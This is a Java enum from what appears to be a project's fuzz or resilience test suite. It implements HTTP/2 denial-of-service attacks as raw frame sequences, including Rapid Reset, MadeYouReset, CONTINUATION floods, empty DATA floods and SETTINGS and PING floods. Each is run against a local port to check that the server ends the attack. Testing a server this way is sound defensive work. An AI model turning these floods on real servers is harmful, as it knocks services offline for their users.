package dev.curlew.platform.fuzz;

import static dev.curlew.platform.fuzz.RawHttp2.CONTINUATION;
import static dev.curlew.platform.fuzz.RawHttp2.DATA;
import static dev.curlew.platform.fuzz.RawHttp2.END_HEADERS;
import static dev.curlew.platform.fuzz.RawHttp2.END_STREAM;
import static dev.curlew.platform.fuzz.RawHttp2.HEADERS;
import static dev.curlew.platform.fuzz.RawHttp2.PING;
import static dev.curlew.platform.fuzz.RawHttp2.RST_STREAM;
import static dev.curlew.platform.fuzz.RawHttp2.SETTINGS;
import static dev.curlew.platform.fuzz.RawHttp2.WINDOW_UPDATE;
import static org.awaitility.Awaitility.await;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import org.awaitility.core.ConditionTimeoutException;

/**
 * What is done with HTTP/2 to bring servers down. Each returns when the server has put an end to it, or has borne all of it for a while.
 */
public enum Http2Abuse {
    /** CVE-2023-44487: requests that are taken back at once, so that no limit of streams at a time is reached. */
    RAPID_RESET(20_000) {
        @Override
        void round(RawHttp2 client, int number) throws IOException {
            int stream = 2 * number + 1;
            client.frame(HEADERS, END_HEADERS | END_STREAM, stream, RawHttp2.request("GET", "/known"));
            client.frame(RST_STREAM, 0, stream, RawHttp2.word(CANCEL));
        }
    },
    /** CVE-2025-55163: the same, but for that the server is made to take them back. */
    MADE_YOU_RESET(20_000) {
        @Override
        void round(RawHttp2 client, int number) throws IOException {
            int stream = 2 * number + 1;
            client.frame(HEADERS, END_HEADERS, stream, RawHttp2.request("POST", "/api/v1/links"));
            client.frame(WINDOW_UPDATE, 0, stream, RawHttp2.word(0));
        }

        @Override
        public boolean mayBeBorne() {
            return true;
        }
    },
    /** CVE-2024-27316 and its like: headers that never end. */
    CONTINUATION_FLOOD(2_000) {
        @Override
        void round(RawHttp2 client, int number) throws IOException {
            if (number == 0) {
                client.frame(HEADERS, END_STREAM, 1, RawHttp2.request("GET", "/known"));
            }
            client.frame(CONTINUATION, 0, 1, RawHttp2.header("x-" + number, "a".repeat(15_000)));
        }
    },
    /** The same of frames with nothing in them, which no limit of bytes counts. */
    EMPTY_CONTINUATION_FLOOD(200_000) {
        @Override
        void round(RawHttp2 client, int number) throws IOException {
            if (number == 0) {
                client.frame(HEADERS, END_STREAM, 1, RawHttp2.request("GET", "/known"));
            }
            client.frame(CONTINUATION, 0, 1);
        }
    },
    /** CVE-2019-9518: a body of frames with nothing in them. */
    EMPTY_DATA_FLOOD(200_000) {
        @Override
        void round(RawHttp2 client, int number) throws IOException {
            if (number == 0) {
                client.frame(HEADERS, END_HEADERS, 1, RawHttp2.request("POST", "/api/v1/links"));
            }
            client.frame(DATA, 0, 1);
        }
    },
    /** CVE-2019-9515: each is to be acknowledged, and nobody reads it. */
    SETTINGS_FLOOD(400_000) {
        @Override
        void round(RawHttp2 client, int number) throws IOException {
            client.frame(SETTINGS, 0, 0);
        }

        @Override
        public boolean mayBeBorne() {
            return true;
        }

        @Override
        boolean reads() {
            return false;
        }
    },
    /** CVE-2019-9512: each is to be answered, and nobody reads it. */
    PING_FLOOD(400_000) {
        @Override
        void round(RawHttp2 client, int number) throws IOException {
            client.frame(PING, 0, 0, new byte[8]);
        }

        @Override
        boolean reads() {
            return false;
        }
    },
    /** One request with many times the headers that any may have. */
    HUGE_HEADERS(1) {
        @Override
        void round(RawHttp2 client, int number) throws IOException {
            ByteArrayOutputStream block = new ByteArrayOutputStream();
            block.writeBytes(RawHttp2.request("GET", "/known"));
            block.writeBytes(RawHttp2.header("x-a", "a".repeat(12_000)));
            client.frame(HEADERS, END_STREAM, 1, block.toByteArray());
            for (int i = 0; i < 20; i++) {
                client.frame(CONTINUATION, i == 19 ? END_HEADERS : 0, 1, RawHttp2.header("x-" + i, "a".repeat(15_000)));
            }
        }

        @Override
        boolean over(RawHttp2 client) {
            return client.closed() || client.ended().contains(1);
        }
    };

    private static final int CANCEL = 8;
    private static final int FLUSHED = 50;
    private static final Duration PATIENCE = Duration.ofSeconds(20);
    private static final Duration SHORT = Duration.ofSeconds(2);

    private final int rounds;

    Http2Abuse(int rounds) {
        this.rounds = rounds;
    }

    /**
     * How it ended.
     *
     * @param sent how many rounds of it were sent
     * @param goAway the code of the server's farewell; -1 if none was heard
     * @param ended whether the server put an end to it
     */
    public record Outcome(int sent, int goAway, boolean ended) {}

    abstract void round(RawHttp2 client, int number) throws IOException;

    boolean reads() {
        return true;
    }

    /** Whether it is enough that a server bears all of it: so much at a time costs it next to nothing. */
    public boolean mayBeBorne() {
        return false;
    }

    boolean over(RawHttp2 client) {
        return client.closed();
    }

    /** Does it to a port of this machine. */
    public Outcome to(int port) throws IOException {
        int sent = 0;
        try (RawHttp2 client = reads() ? RawHttp2.to(port) : RawHttp2.deafTo(port)) {
            try {
                client.settings();
                client.flush();
                while (sent < rounds && !over(client)) {
                    round(client, sent++);
                    if (sent % FLUSHED == 0 || sent == rounds) {
                        client.flush();
                    }
                }
            } catch (IOException _) {
                // Closed by the server.
            }
            if (!reads()) {
                client.listen();
            }
            boolean ended = awaitEnd(client);
            return new Outcome(sent, client.goAway(), ended);
        }
    }

    private boolean awaitEnd(RawHttp2 client) {
        try {
            await().atMost(mayBeBorne() ? SHORT : PATIENCE).until(() -> over(client));
            return true;
        } catch (ConditionTimeoutException _) {
            return false;
        }
    }
}
